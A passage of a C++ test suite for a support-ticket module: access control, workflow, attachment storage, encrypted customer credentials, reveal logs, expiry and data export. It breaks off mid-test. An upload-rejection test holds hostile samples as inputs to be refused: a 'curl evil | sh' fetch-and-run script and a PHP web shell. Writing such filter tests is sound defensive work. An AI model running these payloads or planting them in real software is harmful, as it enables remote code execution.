// The tickets module through a real host and MariaDB: who sees what, the workflow, attachments,
// credentials from sealing to purge, personal data and retention, and bad input of every kind.
#include "domain/content.hpp"
#include "support/test_host.hpp"

#include <plinth/sdk/encoding.hpp>
#include <plinth/plinth.h>
#include <plinth/sdk/error.hpp>
#include <plinth/sdk/host.hpp>

#include <boost/json.hpp>
#include <gtest/gtest.h>

#include <atomic>
#include <cstring>
#include <map>
#include <set>
#include <random>
#include <thread>
#include <string>
#include <vector>

namespace plinth::tickets {
namespace {

namespace json = boost::json;
using json::object;
using json::value;

constexpr int64_t kDay = 86400;
constexpr int64_t kAlice = 101, kBob = 102, kStaff = 900, kOtherStaff = 901;

plinth_call_context customer(int64_t id) { return host::user_caller(id, PLINTH_ROLE_CUSTOMER); }
plinth_call_context staff(int64_t id = kStaff) { return host::user_caller(id, PLINTH_ROLE_STAFF); }

std::string b64(std::string_view s) { return plinth::sdk::encoding::to_base64(s); }

object credential_args(int64_t ticket, std::string password = "Tr0ub4dor&3-unique") {
    return {{"ticket_id", ticket},
            {"site_url", "https://shop.alice.example/wp-admin"},
            {"username", "alice-support-login"},
            {"password", password},
            {"note", "remove after the fix please"}};
}

class TicketsTest : public ::testing::Test {
protected:
    explicit TicketsTest(object config = {}) : db_("tickets"), host_(db_, {"tickets"}, std::move(config)) {}

    value call(std::string_view command, const object &args, const plinth_call_context &caller) {
        return host_.call("tickets", command, args, caller);
    }
    int32_t fails(std::string_view command, const object &args, const plinth_call_context &caller,
                  std::string *message = nullptr) {
        return host_.call_error("tickets", command, json::serialize(args), caller, message);
    }

    int64_t open_ticket(int64_t owner, std::string subject = "Checkout page is blank", object extra = {}) {
        object args{{"subject", subject}, {"description", "Since the update the checkout shows nothing."}};
        for (auto &m : extra) args[m.key()] = m.value();
        return call("ticket.create", args, customer(owner)).at("id").as_int64();
    }
    object attach(int64_t ticket, int64_t who, std::string_view content, std::string name = "log.txt",
                  bool as_staff = false) {
        return call("attachment.add",
                    {{"ticket_id", ticket}, {"file_name", name}, {"media_type", "text/plain"},
                     {"content_base64", b64(content)}},
                    as_staff ? staff(who) : customer(who))
            .as_object();
    }
    int64_t add_credential(int64_t ticket, int64_t owner, std::string password = "Tr0ub4dor&3-unique") {
        return call("credential.add", credential_args(ticket, password), customer(owner)).at("id").as_int64();
    }
    int64_t count(const std::string &sql) { return db_.sql().query(sql).at(0).i64(0); }
    int64_t now_s() const { return host_.now_us() / 1000000; }

    const plinth_module *module() { return host_.host().module("tickets"); }

    struct Exported {
        std::vector<std::pair<std::string, object>> items;
        std::map<std::string, std::string> files;
        std::string all; // every item and file, for "never contains" checks
    };
    Exported export_subject(int64_t user_id) {
        auto *pd = host_.host().interface_as<plinth_personal_data_v1>("tickets", PLINTH_EXT_PERSONAL_DATA);
        EXPECT_NE(pd, nullptr);
        Exported out;
        plinth_subject subject{sizeof(plinth_subject), user_id, nullptr, 0};
        plinth_export_sink sink{};
        sink.struct_size = sizeof sink;
        sink.context = &out;
        sink.item = [](void *ctx, plinth_str category, plinth_str json_object) -> int32_t {
            auto *e = static_cast<Exported *>(ctx);
            e->items.emplace_back(std::string(sdk::to_view(category)), json::parse(sdk::to_view(json_object)).as_object());
            e->all += std::string(sdk::to_view(json_object));
            return 0;
        };
        sink.file = [](void *ctx, plinth_str, plinth_str name, plinth_str, const uint8_t *bytes, size_t size) -> int32_t {
            auto *e = static_cast<Exported *>(ctx);
            e->files[std::string(sdk::to_view(name))] = std::string(reinterpret_cast<const char *>(bytes), size);
            e->all += std::string(reinterpret_cast<const char *>(bytes), size);
            return 0;
        };
        plinth_error error = sdk::make_error();
        EXPECT_EQ(pd->export_subject(module(), &subject, &sink, &error), PLINTH_OK) << error.message;
        return out;
    }

    struct Outcome {
        std::string category, item;
        int32_t outcome;
        std::string legal_basis;
        int64_t retained_until;
    };
    std::vector<Outcome> erase_subject(int64_t user_id, bool dry_run) {
        auto *pd = host_.host().interface_as<plinth_personal_data_v1>("tickets", PLINTH_EXT_PERSONAL_DATA);
        std::vector<Outcome> out;
        plinth_subject subject{sizeof(plinth_subject), user_id, nullptr, 0};
        plinth_erasure_sink sink{sizeof(plinth_erasure_sink), &out, [](void *ctx, const plinth_erasure_item *i) -> int32_t {
                                     static_cast<std::vector<Outcome> *>(ctx)->push_back(
                                         {std::string(sdk::to_view(i->category)), std::string(sdk::to_view(i->item)),
                                          i->outcome, std::string(sdk::to_view(i->legal_basis)), i->retained_until});
                                     return 0;
                                 }};
        plinth_error error = sdk::make_error();
        EXPECT_EQ(pd->erase_subject(module(), &subject, dry_run ? 1 : 0, &sink, &error), PLINTH_OK) << error.message;
        return out;
    }

    std::map<std::string, int64_t> sweep() {
        auto *r = host_.host().interface_as<plinth_retention_v1>("tickets", PLINTH_EXT_RETENTION);
        EXPECT_NE(r, nullptr);
        std::map<std::string, int64_t> counts;
        plinth_retention_sink sink{sizeof(plinth_retention_sink), &counts,
                                   [](void *ctx, const plinth_retention_count *c) -> int32_t {
                                       (*static_cast<std::map<std::string, int64_t> *>(ctx))
                                           [std::string(sdk::to_view(c->category)) + "/" +
                                            std::string(sdk::to_view(c->action))] = c->count;
                                       return 0;
                                   }};
        plinth_error error = sdk::make_error();
        EXPECT_EQ(r->sweep(module(), host_.now_us(), &sink, &error), PLINTH_OK) << error.message;
        return counts;
    }

    test::TestDatabase db_;
    test::TestHost host_;
};

// ---------------------------------------------------------------- visibility and workflow

TEST_F(TicketsTest, CustomersSeeOnlyTheirOwnTicketsAndStaffSeeAll) {
    int64_t alice = open_ticket(kAlice);
    int64_t bob = open_ticket(kBob, "Bob's problem");
    int64_t file = attach(alice, kAlice, "alice's log").at("id").as_int64();

    EXPECT_EQ(call("ticket.get", {{"ticket_id", alice}}, customer(kAlice)).at("id"), alice);
    EXPECT_EQ(call("ticket.get", {{"ticket_id", alice}}, staff()).at("id"), alice);

    // Someone else's ticket looks exactly like one that does not exist.
    std::string other, missing;
    EXPECT_EQ(fails("ticket.get", {{"ticket_id", alice}}, customer(kBob), &other), PLINTH_E_NOT_FOUND);
    EXPECT_EQ(fails("ticket.get", {{"ticket_id", 999999}}, customer(kBob), &missing), PLINTH_E_NOT_FOUND);
    EXPECT_NE(other.find("not found"), std::string::npos);
    EXPECT_EQ(fails("attachment.get", {{"attachment_id", file}}, customer(kBob)), PLINTH_E_NOT_FOUND);
    EXPECT_EQ(fails("attachment.remove", {{"attachment_id", file}}, customer(kBob)), PLINTH_E_NOT_FOUND);
    EXPECT_EQ(fails("ticket.reply", {{"ticket_id", alice}, {"body", "hi"}}, customer(kBob)), PLINTH_E_NOT_FOUND);
    EXPECT_EQ(fails("ticket.set_status", {{"ticket_id", alice}, {"status", "closed"}}, customer(kBob)),
              PLINTH_E_NOT_FOUND);
    EXPECT_EQ(fails("attachment.add", {{"ticket_id", alice}, {"file_name", "x.txt"}, {"media_type", "text/plain"},
                                       {"content_base64", b64("x")}},
                    customer(kBob)),
              PLINTH_E_NOT_FOUND);
    EXPECT_EQ(fails("credential.add", credential_args(alice), customer(kBob)), PLINTH_E_NOT_FOUND);
    EXPECT_EQ(fails("credential.log", {{"ticket_id", alice}}, customer(kBob)), PLINTH_E_NOT_FOUND);

    auto listed = call("ticket.list", {}, customer(kBob)).at("tickets").as_array();
    ASSERT_EQ(listed.size(), 1u);
    EXPECT_EQ(listed[0].at("id"), bob);

    // The body cannot claim to be someone else: unknown members are refused, not obeyed.
    EXPECT_EQ(fails("ticket.list", {{"owner_id", kAlice}}, customer(kBob)), PLINTH_E_INVALID_ARGUMENT);
    EXPECT_EQ(fails("ticket.create", {{"subject", "s"}, {"description", "d"}, {"owner_id", kAlice}}, customer(kBob)),
              PLINTH_E_INVALID_ARGUMENT);
    // Staff-only commands stay staff-only.
    EXPECT_EQ(fails("ticket.queue", {}, customer(kAlice)), PLINTH_E_PERMISSION_DENIED);
    EXPECT_EQ(fails("ticket.set_priority", {{"ticket_id", alice}, {"priority", "urgent"}}, customer(kAlice)),
              PLINTH_E_PERMISSION_DENIED);
    EXPECT_EQ(host_.call_error("tickets", "ticket.list", "{}", host::anonymous_caller()), PLINTH_E_UNAUTHENTICATED);
}

TEST_F(TicketsTest, RepliesAndStatusFollowTheWorkflow) {
    int64_t t = open_ticket(kAlice);
    auto r1 = call("ticket.reply", {{"ticket_id", t}, {"body", "Which theme do you use?"}}, staff());
    EXPECT_EQ(r1.at("status"), "pending");
    EXPECT_EQ(r1.at("reply").at("by"), "staff");
    EXPECT_EQ(call("ticket.reply", {{"ticket_id", t}, {"body", "Storefront."}}, customer(kAlice)).at("status"), "open");
    EXPECT_EQ(call("ticket.set_status", {{"ticket_id", t}, {"status", "resolved"}}, staff()).at("status"), "resolved");
    EXPECT_EQ(fails("ticket.set_status", {{"ticket_id", t}, {"status", "pending"}}, customer(kAlice)),
              PLINTH_E_CONFLICT);
    EXPECT_EQ(call("ticket.set_status", {{"ticket_id", t}, {"status", "closed"}}, customer(kAlice)).at("status"),
              "closed");

    std::string message;
    EXPECT_EQ(fails("ticket.reply", {{"ticket_id", t}, {"body", "one more thing"}}, customer(kAlice), &message),
              PLINTH_E_CONFLICT);
    EXPECT_NE(message.find("reopen"), std::string::npos);
    EXPECT_EQ(fails("attachment.add", {{"ticket_id", t}, {"file_name", "a.txt"}, {"media_type", "text/plain"},
                                       {"content_base64", b64("x")}},
                    customer(kAlice)),
              PLINTH_E_CONFLICT);

    EXPECT_EQ(call("ticket.set_status", {{"ticket_id", t}, {"status", "open"}}, customer(kAlice)).at("status"), "open");
    EXPECT_EQ(fails("ticket.set_status", {{"ticket_id", t}, {"status", "pending"}}, customer(kAlice)),
              PLINTH_E_PERMISSION_DENIED);
    object detail = call("ticket.get", {{"ticket_id", t}}, customer(kAlice)).as_object();
    EXPECT_EQ(detail.at("replies").as_array().size(), 2u);
    EXPECT_TRUE(detail.at("closed_at").is_null());
}

TEST_F(TicketsTest, StaffQueueFiltersAndPages) {
    std::vector<int64_t> ids;
    const char *priorities[] = {"low", "urgent", "normal", "urgent", "high"};
    for (int i = 0; i < 5; ++i)
        ids.push_back(open_ticket(i % 2 ? kBob : kAlice, "ticket " + std::to_string(i),
                                  {{"priority", priorities[i]}, {"product", i < 3 ? "forms" : "cache"}}));
    call("ticket.set_status", {{"ticket_id", ids[4]}, {"status", "closed"}}, staff());

    // Default: active tickets, most urgent first, then oldest.
    std::vector<int64_t> seen;
    value cursor = nullptr;
    do {
        object args{{"limit", 2}};
        if (!cursor.is_null()) args["cursor"] = cursor;
        object page = call("ticket.queue", args, staff()).as_object();
        for (const auto &t : page.at("tickets").as_array()) seen.push_back(t.at("id").as_int64());
        cursor = page.at("next_cursor");
    } while (!cursor.is_null());
    EXPECT_EQ(seen, (std::vector<int64_t>{ids[1], ids[3], ids[2], ids[0]}));

    auto only = [&](object args) {
        std::vector<int64_t> out;
        value page = call("ticket.queue", args, staff());
        for (const auto &t : page.at("tickets").as_array()) out.push_back(t.at("id").as_int64());
        return out;
    };
    EXPECT_EQ(only({{"status", "closed"}}), (std::vector<int64_t>{ids[4]}));
    EXPECT_EQ(only({{"status", "all"}, {"product", "cache"}}), (std::vector<int64_t>{ids[3], ids[4]}));
    EXPECT_EQ(only({{"owner_id", kBob}}), (std::vector<int64_t>{ids[1], ids[3]}));
    EXPECT_EQ(only({{"priority", "low"}}), (std::vector<int64_t>{ids[0]}));
    EXPECT_EQ(fails("ticket.queue", {{"cursor", "9.x"}}, staff()), PLINTH_E_INVALID_ARGUMENT);
    EXPECT_EQ(fails("ticket.queue", {{"status", "everything"}}, staff()), PLINTH_E_INVALID_ARGUMENT);
    EXPECT_EQ(fails("ticket.queue", {{"limit", 0}}, staff()), PLINTH_E_INVALID_ARGUMENT);

    // The owner's own list pages newest first.
    object first = call("ticket.list", {{"limit", 2}}, customer(kAlice)).as_object();
    ASSERT_EQ(first.at("tickets").as_array().size(), 2u);
    EXPECT_EQ(first.at("tickets").as_array()[0].at("id"), ids[4]);
    object second = call("ticket.list", {{"limit", 2}, {"cursor", first.at("next_cursor")}}, customer(kAlice)).as_object();
    EXPECT_EQ(second.at("tickets").as_array().size(), 1u);
    EXPECT_TRUE(second.at("next_cursor").is_null());
}

TEST_F(TicketsTest, PrivateEnvironmentValuesAreRedactedForEveryoneButTheOwner) {
    object env = json::parse(R"({"cms": {"name": "WordPress", "version": "6.5"},
        "server": {"software": "nginx", "document_root": "/var/www/alice-shop", "database_name": "alice_wp"},
        "extras": {"memory_limit": "256M", "AUTH_KEY": "k3y-of-alice"}})").as_object();
    int64_t t = open_ticket(kAlice, "env", {{"environment", env}});

    value mine = call("ticket.get", {{"ticket_id", t}}, customer(kAlice)).at("environment");
    EXPECT_EQ(mine.at("server").at("document_root"), "/var/www/alice-shop");
    EXPECT_EQ(mine.at("extras").at("AUTH_KEY"), "k3y-of-alice");

    value theirs = call("ticket.get", {{"ticket_id", t}}, staff()).at("environment");
    EXPECT_EQ(theirs.at("server").at("document_root"), "[redacted]");
    EXPECT_EQ(theirs.at("server").at("database_name"), "[redacted]");
    EXPECT_EQ(theirs.at("extras").at("AUTH_KEY"), "[redacted]");
    EXPECT_EQ(theirs.at("extras").at("memory_limit"), "256M");
    EXPECT_EQ(theirs.at("cms").at("version"), "6.5");

    // Only the owner replaces it; null clears it.
    EXPECT_EQ(fails("ticket.set_environment", {{"ticket_id", t}, {"environment", env}}, staff()),
              PLINTH_E_PERMISSION_DENIED);
    call("ticket.set_environment", {{"ticket_id", t}, {"environment", nullptr}}, customer(kAlice));
    EXPECT_TRUE(call("ticket.get", {{"ticket_id", t}}, customer(kAlice)).at("environment").is_null());
}

// ---------------------------------------------------------------- attachments

TEST_F(TicketsTest, EightMebibytesRoundTripByteExact) {
    int64_t t = open_ticket(kAlice);
    std::string content(8u << 20, '\0');
    std::mt19937_64 rng(42);
    for (size_t i = 0; i < content.size(); i += 8) {
        uint64_t v = rng();
        std::memcpy(&content[i], &v, 8);
    }
    content[0] = 'P'; // not "MZ" or another program signature by chance
    object added = call("attachment.add",
                        {{"ticket_id", t}, {"file_name", "core.dump.bin.gz"}, {"media_type", "application/gzip"},
                         {"content_base64", b64(content)}},
                        customer(kAlice))
                       .as_object();
    EXPECT_EQ(added.at("size"), static_cast<int64_t>(content.size()));
    EXPECT_EQ(added.at("sha256"), value(plinth::sdk::encoding::to_hex(sha256(as_bytes(content)))));
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_blob_chunks"), 16);
    EXPECT_LE(count("SELECT MAX(LENGTH(data)) FROM tickets_blob_chunks"), 512 * 1024);

    object got = call("attachment.get", {{"attachment_id", added.at("id")}}, staff()).as_object();
    std::vector<uint8_t> back = decode_base64("content_base64", got.at("content_base64").as_string(), 16u << 20);
    ASSERT_EQ(back.size(), content.size());
    EXPECT_TRUE(std::equal(back.begin(), back.end(), reinterpret_cast<const uint8_t *>(content.data())));
}

TEST_F(TicketsTest, IdenticalFilesOfOneOwnerAreStoredOnceAndOrphansSwept) {
    int64_t a1 = open_ticket(kAlice), a2 = open_ticket(kAlice), b1 = open_ticket(kBob);
    object first = attach(a1, kAlice, "same screenshot bytes");
    object second = attach(a2, kAlice, "same screenshot bytes", "copy.txt");
    object staff_copy = attach(a1, kStaff, "same screenshot bytes", "staff.txt", true);
    object bobs = attach(b1, kBob, "same screenshot bytes");
    EXPECT_FALSE(first.at("deduplicated").as_bool());
    EXPECT_TRUE(second.at("deduplicated").as_bool());
    EXPECT_TRUE(staff_copy.at("deduplicated").as_bool()); // filed under the ticket owner
    EXPECT_FALSE(bobs.at("deduplicated").as_bool());      // never shared across customers
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_blobs"), 2);
    EXPECT_EQ(count("SELECT ref_count FROM tickets_blobs WHERE owner_id = 101"), 3);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_blob_chunks"), 2);

    call("attachment.remove", {{"attachment_id", first.at("id")}}, customer(kAlice));
    call("attachment.remove", {{"attachment_id", staff_copy.at("id")}}, staff());
    EXPECT_EQ(count("SELECT ref_count FROM tickets_blobs WHERE owner_id = 101"), 1);
    // The remaining reference still reads the shared bytes.
    EXPECT_EQ(call("attachment.get", {{"attachment_id", second.at("id")}}, customer(kAlice)).at("content_base64"),
              value(b64("same screenshot bytes")));
    EXPECT_EQ(fails("attachment.get", {{"attachment_id", first.at("id")}}, customer(kAlice)), PLINTH_E_NOT_FOUND);

    call("attachment.remove", {{"attachment_id", second.at("id")}}, customer(kAlice));
    EXPECT_EQ(count("SELECT ref_count FROM tickets_blobs WHERE owner_id = 101"), 0); // orphan, not yet gone
    auto counts = sweep();
    EXPECT_EQ(counts["ticket attachments/removed"], 1);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_blobs"), 1);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_blob_chunks"), 1);
    EXPECT_EQ(sweep()["ticket attachments/removed"], 0); // idempotent

    // Uploading the bytes again after the sweep stores them afresh.
    EXPECT_FALSE(attach(a1, kAlice, "same screenshot bytes").at("deduplicated").as_bool());
}

TEST_F(TicketsTest, ConcurrentIdenticalUploadsShareOneBlob) {
    constexpr int kThreads = 4;
    std::vector<int64_t> tickets;
    for (int i = 0; i < kThreads; ++i) tickets.push_back(open_ticket(kAlice));
    const std::string content(600 * 1024, 'z'); // two chunks
    std::vector<std::thread> threads;
    std::atomic<int> failures{0};
    for (int i = 0; i < kThreads; ++i)
        threads.emplace_back([&, i] {
            try {
                attach(tickets[i], kAlice, content, "same.log");
            } catch (...) {
                ++failures;
            }
        });
    for (auto &t : threads) t.join();
    EXPECT_EQ(failures.load(), 0);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_blobs"), 1);
    EXPECT_EQ(count("SELECT ref_count FROM tickets_blobs"), kThreads);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_blob_chunks"), 2);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_attachments"), kThreads);
}

TEST_F(TicketsTest, ProgramsAndScriptsAreRefusedByContentNameAndType) {
    int64_t t = open_ticket(kAlice);
    struct Case {
        std::string name, type, content, expect;
    };
    const std::vector<Case> cases = {
        {"tool.txt", "text/plain", std::string("\x7f" "ELF\x02\x01", 6), "ELF"},
        {"readme.txt", "text/plain", "MZ\x90\x00\x03", "Windows"},
        {"a.txt", "text/plain", std::string("\xcf\xfa\xed\xfe\x07", 5), "Mach-O"},
        {"notes.txt", "text/plain", "#!/bin/bash\ncurl evil | sh\n", "#!"},
        {"image.jpg", "image/jpeg", "<?php system($_GET['c']); ?>", "PHP"},
        {"setup.exe", "application/octet-stream", "harmless bytes", ".exe"},
        {"shell.php.jpg", "image/jpeg", "harmless bytes", ".php"},
        {"data.bin.txt", "application/x-msdownload", "harmless bytes", "media type"},
    };
    for (const Case &c : cases) {
        std::string message;
        EXPECT_EQ(fails("attachment.add", {{"ticket_id", t}, {"file_name", c.name}, {"media_type", c.type},
                                           {"content_base64", b64(c.content)}},
                        customer(kAlice), &message),
                  PLINTH_E_INVALID_ARGUMENT)
            << c.name;
        EXPECT_NE(message.find(c.expect), std::string::npos) << message;
    }
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_attachments"), 0);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_blobs"), 0);
}

class SmallLimitsTest : public TicketsTest {
protected:
    SmallLimitsTest()
        : TicketsTest(json::parse(R"({"tickets": {"attachments": {"max_bytes": 1024, "max_per_ticket": 2},
                                                  "credentials": {"max_per_ticket": 1}}})")
                          .as_object()) {}
};

TEST_F(SmallLimitsTest, SizeAndCountLimitsHold) {
    int64_t t = open_ticket(kAlice);
    std::string message;
    EXPECT_EQ(fails("attachment.add", {{"ticket_id", t}, {"file_name", "big.log"}, {"media_type", "text/plain"},
                                       {"content_base64", b64(std::string(1025, 'x'))}},
                    customer(kAlice), &message),
              PLINTH_E_LIMIT_EXCEEDED);
    EXPECT_NE(message.find("1024"), std::string::npos);
    attach(t, kAlice, std::string(1024, 'x'), "exact.log");
    attach(t, kAlice, "second", "second.log");
    EXPECT_EQ(fails("attachment.add", {{"ticket_id", t}, {"file_name", "third.log"}, {"media_type", "text/plain"},
                                       {"content_base64", b64("third")}},
                    customer(kAlice), &message),
              PLINTH_E_LIMIT_EXCEEDED);
    EXPECT_NE(message.find("2 attachments"), std::string::npos);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_attachments"), 2);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_blobs"), 2);

    add_credential(t, kAlice);
    EXPECT_EQ(fails("credential.add", credential_args(t), customer(kAlice)), PLINTH_E_LIMIT_EXCEEDED);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_credentials"), 1);
}

// ---------------------------------------------------------------- credentials

TEST_F(TicketsTest, CredentialPlaintextNeverReachesTheDatabase) {
    int64_t t = open_ticket(kAlice);
    int64_t c = add_credential(t, kAlice);
    object revealed = call("credential.reveal", {{"credential_id", c}}, staff()).as_object();
    EXPECT_EQ(revealed.at("password"), "Tr0ub4dor&3-unique");
    EXPECT_EQ(revealed.at("username"), "alice-support-login");
    EXPECT_EQ(revealed.at("site_url"), "https://shop.alice.example/wp-admin");
    call("ticket.reply", {{"ticket_id", t}, {"body", "Logged in, looking now."}}, staff());

    std::string dump = db_.dump_all_tables();
    ASSERT_NE(dump.find("## tickets_credentials"), std::string::npos);
    for (const char *plain : {"Tr0ub4dor", "alice-support-login", "shop.alice.example", "remove after the fix"})
        EXPECT_EQ(dump.find(plain), std::string::npos) << plain;

    // Nor into what customers or staff read afterwards.
    std::string detail = json::serialize(call("ticket.get", {{"ticket_id", t}}, staff()));
    EXPECT_EQ(detail.find("Tr0ub4dor"), std::string::npos);
    EXPECT_EQ(detail.find("alice-support-login"), std::string::npos);

    call("ticket.set_status", {{"ticket_id", t}, {"status", "closed"}}, customer(kAlice));
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_credentials WHERE ciphertext IS NOT NULL OR nonce IS NOT NULL"), 0);
}

TEST_F(TicketsTest, AlteredOrMovedCiphertextFailsToDecryptClearly) {
    int64_t t1 = open_ticket(kAlice), t2 = open_ticket(kAlice, "second site");
    int64_t c1 = add_credential(t1, kAlice, "first-password");
    int64_t c2 = add_credential(t2, kAlice, "second-password");
    storage::Connection &sql = db_.sql();

    // One flipped bit.
    sql.execute("UPDATE tickets_credentials SET ciphertext = CONCAT(LEFT(ciphertext, 5), "
                "CHAR(ASCII(SUBSTRING(ciphertext, 6, 1)) ^ 1), SUBSTRING(ciphertext, 7)) WHERE id = ?",
                {c1});
    std::string message;
    EXPECT_EQ(fails("credential.reveal", {{"credential_id", c1}}, staff(), &message), PLINTH_E_INTERNAL);
    EXPECT_NE(message.find("credential " + std::to_string(c1) + " of ticket " + std::to_string(t1) +
                           " cannot be decrypted"),
              std::string::npos)
        << message;
    EXPECT_EQ(message.find("first-password"), std::string::npos);

    // A row moved to another ticket.
    sql.execute("UPDATE tickets_credentials SET ticket_id = ? WHERE id = ?", {t1, c2});
    EXPECT_EQ(fails("credential.reveal", {{"credential_id", c2}}, staff(), &message), PLINTH_E_INTERNAL);
    EXPECT_NE(message.find("belongs to another ticket"), std::string::npos) << message;
    sql.execute("UPDATE tickets_credentials SET ticket_id = ? WHERE id = ?", {t2, c2});
    EXPECT_EQ(call("credential.reveal", {{"credential_id", c2}}, staff()).at("password"), "second-password");

    // Ciphertext and nonce copied from one row into another.
    int64_t c3 = add_credential(t1, kAlice, "third-password");
    sql.execute("UPDATE tickets_credentials dst JOIN tickets_credentials src ON src.id = ? "
                "SET dst.nonce = src.nonce, dst.ciphertext = src.ciphertext WHERE dst.id = ?",
                {c2, c3});
    EXPECT_EQ(fails("credential.reveal", {{"credential_id", c3}}, staff(), &message), PLINTH_E_INTERNAL);
    EXPECT_NE(message.find("cannot be decrypted"), std::string::npos);

    // Failed reveals reveal nothing and log nothing; only the one success is logged.
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_credential_reveals"), 1);
}

TEST_F(TicketsTest, OnlyStaffRevealAndEveryRevealIsLogged) {
    int64_t t = open_ticket(kAlice);
    int64_t c = add_credential(t, kAlice);
    EXPECT_EQ(fails("credential.reveal", {{"credential_id", c}}, customer(kAlice)), PLINTH_E_PERMISSION_DENIED);
    EXPECT_EQ(fails("credential.reveal", {{"credential_id", c}}, customer(kBob)), PLINTH_E_PERMISSION_DENIED);
    EXPECT_EQ(host_.call_error("tickets", "credential.reveal", R"({"credential_id":1})", host::system_caller()),
              PLINTH_E_PERMISSION_DENIED);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_credential_reveals"), 0);

    object first = call("credential.reveal", {{"credential_id", c}}, staff(kStaff)).as_object();
    host_.advance_s(3600);
    object second = call("credential.reveal", {{"credential_id", c}}, staff(kOtherStaff)).as_object();
    EXPECT_EQ(first.at("reveal").at("revealed_by"), kStaff);
    EXPECT_EQ(second.at("reveal").at("revealed_at"), now_s());

    // The owner can see who looked, and when.
    auto log = call("credential.log", {{"ticket_id", t}}, customer(kAlice)).at("reveals").as_array();
    ASSERT_EQ(log.size(), 2u);
    EXPECT_EQ(log[0].at("revealed_by"), kStaff);
    EXPECT_EQ(log[1].at("revealed_by"), kOtherStaff);
    EXPECT_EQ(log[1].at("revealed_at").as_int64() - log[0].at("revealed_at").as_int64(), 3600);

    // Append-only: the database itself refuses to rewrite history.
    EXPECT_THROW(db_.sql().execute("UPDATE tickets_credential_reveals SET revealed_by = 1"), storage::DbError);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_credential_reveals WHERE revealed_by = 1"), 0);

    // Staff cannot add credentials to a customer's ticket.
    EXPECT_EQ(fails("credential.add", credential_args(t), staff()), PLINTH_E_PERMISSION_DENIED);
}

TEST_F(TicketsTest, CredentialsExpireAfterTheirLifetime) {
    int64_t t = open_ticket(kAlice);
    int64_t c = add_credential(t, kAlice);
    int64_t short_lived =
        call("credential.add", [&] { object a = credential_args(t); a["ttl_days"] = 1; return a; }(), customer(kAlice))
            .at("id")
            .as_int64();
    EXPECT_EQ(fails("credential.add", [&] { object a = credential_args(t); a["ttl_days"] = 8; return a; }(),
                    customer(kAlice)),
              PLINTH_E_INVALID_ARGUMENT);

    host_.advance_s(kDay);
    // A reveal after expiry purges on the spot and says so.
    std::string message;
    EXPECT_EQ(fails("credential.reveal", {{"credential_id", short_lived}}, staff(), &message), PLINTH_E_EXPIRED);
    EXPECT_NE(message.find("expired"), std::string::npos);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_credentials WHERE id = " + std::to_string(short_lived) +
                    " AND ciphertext IS NULL AND purge_reason = 'expired'"),
              1);
    EXPECT_EQ(call("credential.reveal", {{"credential_id", c}}, staff()).at("state"), "active");

    host_.advance_s(6 * kDay - 1);
    EXPECT_EQ(sweep()["ticket credentials/expired"], 0);
    host_.advance_s(1);
    auto counts = sweep();
    EXPECT_EQ(counts["ticket credentials/expired"], 1);
    EXPECT_EQ(counts["ticket description/anonymised"], 0);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_credentials WHERE ciphertext IS NOT NULL"), 0);
    auto creds = call("ticket.get", {{"ticket_id", t}}, customer(kAlice)).at("credentials").as_array();
    ASSERT_EQ(creds.size(), 2u);
    EXPECT_EQ(creds[0].at("state"), "purged");
    EXPECT_EQ(creds[0].at("purge_reason"), "expired");
    EXPECT_EQ(creds[0].at("purged_at"), now_s());
    EXPECT_EQ(fails("credential.reveal", {{"credential_id", c}}, staff(), &message), PLINTH_E_EXPIRED);
    EXPECT_NE(message.find("purged (expired)"), std::string::npos);
}

TEST_F(TicketsTest, ClosingPurgesCredentialsAndKeepsTheirTrace) {
    int64_t t = open_ticket(kAlice);
    int64_t c = add_credential(t, kAlice);
    int64_t withdrawn = add_credential(t, kAlice, "other");
    call("credential.remove", {{"credential_id", withdrawn}}, customer(kAlice));
    EXPECT_EQ(fails("credential.remove", {{"credential_id", withdrawn}}, customer(kAlice)), PLINTH_E_CONFLICT);

    host_.advance_s(60);
    object closed = call("ticket.set_status", {{"ticket_id", t}, {"status", "closed"}}, staff()).as_object();
    EXPECT_EQ(closed.at("credentials_purged"), 1);
    std::string message;
    EXPECT_EQ(fails("credential.reveal", {{"credential_id", c}}, staff(), &message), PLINTH_E_EXPIRED);
    EXPECT_NE(message.find("ticket_closed"), std::string::npos);

    auto creds = call("ticket.get", {{"ticket_id", t}}, customer(kAlice)).at("credentials").as_array();
    ASSERT_EQ(creds.size(), 2u);
    EXPECT_EQ(creds[0].at("purge_reason"), "ticket_closed");
    EXPECT_EQ(creds[0].at("purged_at"), now_s());
    EXPECT_EQ(creds[1].at("purge_reason"), "withdrawn");
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_credentials WHERE ciphertext IS NOT NULL"), 0);

    // A closed ticket takes no new ones; reopening does not bring the old ones back.
    EXPECT_EQ(fails("credential.add", credential_args(t), customer(kAlice)), PLINTH_E_CONFLICT);
    call("ticket.set_status", {{"ticket_id", t}, {"status", "open"}}, customer(kAlice));
    EXPECT_EQ(fails("credential.reveal", {{"credential_id", c}}, staff()), PLINTH_E_EXPIRED);
    int64_t fresh = add_credential(t, kAlice, "after-reopen");
    EXPECT_EQ(call("credential.reveal", {{"credential_id", fresh}}, staff()).at("password"), "after-reopen");
}

// ---------------------------------------------------------------- personal data and retention

TEST_F(TicketsTest, ExportCarriesTicketsFilesAndCredentialMetadataOnly) {
    object env = json::parse(R"({"server": {"document_root": "/home/alice/www"}})").as_object();
    int64_t t = open_ticket(kAlice, "Export me", {{"environment", env}});
    call("ticket.reply", {{"ticket_id", t}, {"body", "staff answer"}}, staff());
    object file = attach(t, kAlice, "exported file bytes", "trace.log");
